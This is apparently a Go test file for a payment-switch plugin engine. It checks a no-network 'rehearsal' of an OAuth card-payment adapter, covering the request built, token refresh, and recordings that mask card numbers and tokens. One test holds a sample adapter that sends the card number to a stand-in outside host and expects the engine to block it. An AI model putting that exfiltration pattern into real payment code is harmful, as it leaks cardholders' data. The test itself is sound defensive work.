package plugins_test

import (
	"context"
	"encoding/base64"
	"errors"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"payswitch/engine/card"
	"payswitch/engine/port"
	"payswitch/engine/secret"
	"payswitch/plugins"
	"payswitch/sdk"
)

// rehearsal returns an OAuth adapter without a network. Its base URL is a server that fails the test when a request arrives.
func rehearsal(t *testing.T) (*plugins.Native, *port.Drive) {
	p := newRecorder(t)
	t.Cleanup(func() { require.Empty(t, p.take(), "something left") })
	n, err := plugins.NewNative(map[string]*sdk.Adapter{"oauth": oauth("access_token")}, plugins.Options{AllowLoopbackHTTP: true})
	require.NoError(t, err)
	return n, authorize("oauth", p.URL)
}

func TestRehearseShowsTheRealRequest(t *testing.T) {
	n, d := rehearsal(t)
	d.BeforeSend = func(context.Context, port.SendIntent) error { return errors.New("nothing is to be sent") }
	r, err := n.Rehearse(t.Context(), d, plugins.Rehearsal{AccessToken: secret.New("token_of_the_case")})
	require.NoError(t, err)
	require.Nil(t, r.Outcome)
	require.Equal(t, "POST", r.Request.Method)
	require.True(t, strings.HasSuffix(r.Request.URL, "/pay"), r.Request.URL)
	require.Equal(t, `{"card":{"card_number":"`+cardNumber+`"}}`, string(r.Request.Body))
	require.Equal(t, "Bearer token_of_the_case", r.Request.Header.Get("Authorization"))

	again, err := n.Rehearse(t.Context(), d, plugins.Rehearsal{AccessToken: secret.New("token_of_the_case")})
	require.NoError(t, err)
	require.Equal(t, r, again)
}

func TestRehearseGoesOnWithAnswers(t *testing.T) {
	n, d := rehearsal(t)
	rehearse := func(answers ...plugins.Answer) *plugins.Rehearsed {
		r, err := n.Rehearse(t.Context(), d, plugins.Rehearsal{Answers: answers})
		require.NoError(t, err)
		return r
	}
	token := plugins.Answer{Status: 200, Body: []byte(`{"access_token":"token_from_the_answer","expires_in":600}`)}
	refused := plugins.Answer{Status: 401, Header: http.Header{"X-Why": {"expired"}}}

	first := rehearse()
	require.True(t, strings.HasSuffix(first.Request.URL, "/token"))
	require.Equal(t, "Basic "+base64.StdEncoding.EncodeToString([]byte("m_1:"+secretKey)), first.Request.Header.Get("Authorization"))
	require.Equal(t, "Bearer token_from_the_answer", rehearse(token).Request.Header.Get("Authorization"))
	require.Equal(t, sdk.StatusAuthorized, rehearse(token, plugins.Answer{Status: 200}).Outcome.Status)
	anew := rehearse(token, refused)
	require.True(t, strings.HasSuffix(anew.Request.URL, "/token"), "the operation fetches a refused token again")
	require.Len(t, anew.Answered, 2)
	require.Equal(t, "POST "+anew.Request.URL, anew.Answered[0])

	r, err := n.Rehearse(t.Context(), d, plugins.Rehearsal{Answers: []plugins.Answer{refused}, AccessToken: secret.New("token_of_the_case")})
	require.NoError(t, err)
	require.Equal(t, "401", r.Outcome.Decline.Code, "the operation does not fetch a given token again")
}

// A rehearsal records the steps with stand-ins, up to the request without an answer.
func TestRehearseRecords(t *testing.T) {
	n, d := rehearsal(t)
	token := plugins.Answer{Status: 200, Body: []byte(`{"access_token":"token_from_the_answer","expires_in":600}`)}
	for steps, answers := range [][]plugins.Answer{1: {token}, 2: {token, {Status: 200}}} {
		if steps == 0 {
			continue
		}
		r, err := n.Rehearse(t.Context(), d, plugins.Rehearsal{Answers: answers})
		require.NoError(t, err)
		require.Len(t, r.Recordings, 2, "the fetch of the token, and the payment")
		pay := r.Recordings[1]
		require.Len(t, pay.Steps, steps)
		require.Len(t, pay.Step.Exchanges, steps-1)
		sent := string(pay.Steps[0].Result)
		require.Contains(t, sent, "/pay")
		require.Contains(t, sent, pay.Step.Request.Instrument.Card.Number, "the stand-in")
		require.NotContains(t, sent, cardNumber)
		require.NotContains(t, sent, "token_from_the_answer")
	}
	r, err := n.Rehearse(t.Context(), d, plugins.Rehearsal{})
	require.NoError(t, err)
	require.Len(t, r.Recordings, 1, "the fetch of the token is not answered")
	require.Empty(t, r.Recordings[0].Step.Exchanges)
	require.Empty(t, r.Recordings[0].Error)
}

func TestRehearseTellsTheToken(t *testing.T) {
	n, d := rehearsal(t)
	d.Operation, d.Request, d.Secrets = sdk.OpAccessToken, sdk.Request{}, card.Secrets{}
	d.Started = time.Date(2026, 1, 15, 10, 20, 30, 0, time.UTC)
	r, err := n.Rehearse(t.Context(), d, plugins.Rehearsal{Answers: []plugins.Answer{{Status: 200, Body: []byte(`{"access_token":"token_from_the_answer","expires_in":600}`)}}})
	require.NoError(t, err)
	require.Equal(t, &sdk.AccessToken{Value: "token_from_the_answer", ExpiresIn: 600}, r.Outcome.Token)

	d.Account.Config["merchant_id"] = "none"
	r, err = n.Rehearse(t.Context(), d, plugins.Rehearsal{})
	require.NoError(t, err)
	require.Equal(t, "merchant_id", r.Reject.Parameter)
}

func TestRehearseKeepsTheRules(t *testing.T) {
	n, err := plugins.NewNative(map[string]*sdk.Adapter{"scripted": scripted(func(c *sdk.Call) (*sdk.Outcome, error) {
		_, err := c.Get("https://elsewhere.example/?card=" + c.Request.Instrument.Card.Number)
		return nil, err
	})}, plugins.Options{})
	require.NoError(t, err)
	_, err = n.Rehearse(t.Context(), authorize("scripted", "https://processor.example"), plugins.Rehearsal{})
	require.ErrorContains(t, err, "is not approved")
	var v *plugins.Violation
	require.ErrorAs(t, err, &v)
	require.Equal(t, "scripted", v.Adapter)
	_, err = n.Rehearse(t.Context(), authorize("other", "https://processor.example"), plugins.Rehearsal{})
	require.ErrorIs(t, err, plugins.ErrNoAdapter)
}
